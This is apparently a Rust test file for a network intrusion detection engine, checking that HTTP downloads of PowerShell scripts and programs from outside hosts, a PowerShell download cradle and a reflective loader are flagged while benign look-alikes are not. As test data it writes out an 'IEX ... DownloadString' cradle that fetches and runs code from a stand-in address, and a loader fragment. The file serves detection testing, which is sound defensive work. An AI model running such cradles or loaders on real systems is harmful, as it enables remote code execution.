//! Attacks over HTTP, each beside what looks most like it.

use backstop_protocols::http::{Exchange, Request, Response, Stage, Transaction as Http};
use backstop_protocols::{AppProto, Transaction};
use backstop_types::{Direction, Endpoint};

use crate::testing::Flow;
use crate::{Finding, Outcome};

const AGENT: &str = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.17763.1";
const SCRIPT: &str = "Get-Service | Where-Object Status -eq Running";

fn outside() -> Flow {
    let mut flow = Flow::default();
    flow.client = Endpoint::new("10.20.30.10".parse().unwrap(), 50_000);
    flow.server = Endpoint::new("203.0.113.7".parse().unwrap(), 80);
    flow
}

/// Target, agent and body.
type Fetched<'a> = (&'a str, &'a str, &'a [u8]);

/// One exchange with its body; the alerts of it.
fn fetch(flow: &mut Flow, host: &str, target: &str, agent: &str, status: u16, body: &[u8]) -> Vec<Finding> {
    let request = Request {
        method: "GET".to_owned(),
        target: target.to_owned(),
        minor: 1,
        host: Some(host.to_owned()),
        user_agent: Some(agent.to_owned()),
        ..Request::default()
    };
    let response = Response { status, minor: 1, ..Response::default() };
    let tx_id = flow.next_number();
    let exchange = |stage, response| {
        Transaction::Http(Http::Exchange(Exchange {
            tx_id,
            stage,
            request: Some(&request),
            request_head: None,
            response,
            response_head: None,
        }))
    };
    flow.transaction(&exchange(Stage::Requested, None));
    if !body.is_empty() {
        let name = backstop_protocols::http::target_name(target).unwrap();
        flow.file(AppProto::Http, Direction::ToClient, Some(tx_id), &name, body);
    }
    flow.transaction(&exchange(Stage::Answered, Some(&response)));
    flow.take()
}

fn sids(findings: &[Finding]) -> Vec<u64> {
    findings.iter().map(|finding| finding.meta.sid()).collect()
}

fn program() -> Vec<u8> {
    let mut bytes = b"MZ".to_vec();
    bytes.resize(0x3c, 0);
    bytes.extend(0x80_u32.to_le_bytes());
    bytes.resize(0x80, 0);
    bytes.extend(b"PE\0\0 inert");
    bytes
}

#[test]
fn scripts_and_programs_from_outside_are_told_and_their_look_alikes_are_not() {
    let program = program();
    let browser = "Mozilla/5.0 (X11; Linux x86_64)";
    // Target, agent, body of the attack; then of what looks like it.
    let pairs: [(Fetched<'_>, Fetched<'_>); 7] = [
        (("/a.ps1", browser, SCRIPT.as_bytes()), ("/a.ps1.html", browser, b"<html>a.ps1</html>")),
        (("/A.PS1?x=1", browser, SCRIPT.as_bytes()), ("/list?file=a.ps1", browser, b"{}")),
        (("/m.psm1#top", browser, SCRIPT.as_bytes()), ("/ps1", browser, b"nothing")),
        (("/file", AGENT, b"text"), ("/powershell", browser, b"text")),
        (("/logo.png", browser, &program), ("/setup.exe", browser, b"MZ is how this page begins")),
        (("/x", "curl PowerShell/7.4.1", b"text"), ("/x", "curl about powershell", b"text")),
        (("http://203.0.113.7/b.ps1", browser, b""), ("http://203.0.113.7/", browser, b"")),
    ];
    for ((target, agent, body), (benign_target, benign_agent, benign_body)) in pairs {
        let found = fetch(&mut outside(), "203.0.113.7", target, agent, 200, body);
        assert_eq!(sids(&found), [9_404_007], "{target}");
        assert_eq!((found[0].outcome, found[0].attacker.addr), (Outcome::Success, "203.0.113.7".parse().unwrap()));
        let benign = fetch(&mut outside(), "203.0.113.7", benign_target, benign_agent, 200, benign_body);
        assert_eq!(sids(&benign), [0_u64; 0], "{benign_target}");
    }
}

#[test]
fn hosts_inside_and_trusted_ones_are_silent_and_a_refusal_is_an_attempt() {
    let mut inside = outside();
    inside.server.addr = "10.20.30.99".parse().unwrap();
    assert!(fetch(&mut inside, "deploy", "/a.ps1", AGENT, 200, b"text").is_empty());
    let update =
        fetch(&mut outside(), "download.windowsupdate.com", "/c/msdownload/update.exe", "Windows-Update-Agent", 200, &program());
    assert!(update.is_empty());
    assert_eq!(sids(&fetch(&mut outside(), "windowsupdate.com.example", "/update.exe", "", 200, &program())), [9_404_007]);
    assert_eq!(fetch(&mut outside(), "h", "/a.ps1", "", 404, b"")[0].outcome, Outcome::Attempt);
    assert_eq!(sids(&fetch(&mut outside(), "h", "/a%2Eps1", "", 200, SCRIPT.as_bytes())), [9_404_007]);
    // An address in a query is what somebody asks about, not where he asks.
    assert!(fetch(&mut outside(), "h", "/check?of=http://203.0.113.9/a.ps1", "", 200, b"clean").is_empty());
}

#[test]
fn a_proxy_inside_is_asked_for_what_lies_outside() {
    let ask = |host: &str, target: &str| {
        let mut flow = outside();
        flow.server = Endpoint::new("10.20.30.8".parse().unwrap(), 3_128);
        sids(&fetch(&mut flow, host, target, "", 200, SCRIPT.as_bytes()))
    };
    for (host, benign) in [
        ("203.0.113.7", "10.20.30.99"),
        ("evil.example", "deploy.corp.local"),
        ("cdn.evil.example.", "deploy"),
        ("[2001:db8::7]", "[fd00::7]"),
        ("evil.home.example", "deploy.home.arpa"),
        ("local.example", "download.windowsupdate.com"),
    ] {
        assert_eq!(ask(host, &format!("http://{host}/a.ps1")), [9_404_007], "{host}");
        assert!(ask(benign, &format!("http://{benign}/a.ps1")).is_empty(), "{benign}");
        assert!(ask(host, "/a.ps1").is_empty(), "no proxy: {host}");
    }
}

#[test]
fn a_cradle_in_a_body_is_told_and_a_page_that_shows_it_is_not() {
    let line = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/next')";
    let found = fetch(&mut outside(), "h", "/next", "", 200, line.as_bytes());
    assert_eq!(sids(&found), [9_403_003]);
    assert_eq!((found[0].outcome, found[0].direction), (Outcome::Success, Direction::ToClient));
    assert!(found[0].context.get("files").is_some());
    for benign in [
        format!("<!DOCTYPE html><pre>{line}</pre>"),
        format!("# {line}\nGet-Date"),
        "(New-Object Net.WebClient).DownloadFile('http://h/a', 'C:\\a')".to_owned(),
    ] {
        assert!(fetch(&mut outside(), "h", "/page", "", 200, benign.as_bytes()).is_empty(), "{benign}");
    }
}

#[test]
fn the_loader_is_told_once_by_content_or_by_name() {
    let mut flow = outside();
    flow.server.addr = "10.20.30.99".parse().unwrap();
    let by_name = fetch(&mut flow, "h", "/icsnd16_64refl.ps1", "", 404, b"");
    assert_eq!((sids(&by_name), by_name[0].outcome), (vec![9_403_001], Outcome::Attempt));
    let loader = "$a=[Convert]::FromBase64String('AAAA');$s=New-Object IO.Compression.DeflateStream($m,0);\
                  [Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($p,$t)";
    let by_content = fetch(&mut flow, "h", "/icsnd16_64refl.ps1", "", 200, loader.as_bytes());
    assert_eq!((sids(&by_content), by_content[0].outcome), (vec![9_403_001], Outcome::Success));
    assert!(fetch(&mut flow, "h", "/about_64refl.ps1.html", "", 200, b"<html>").is_empty());
}
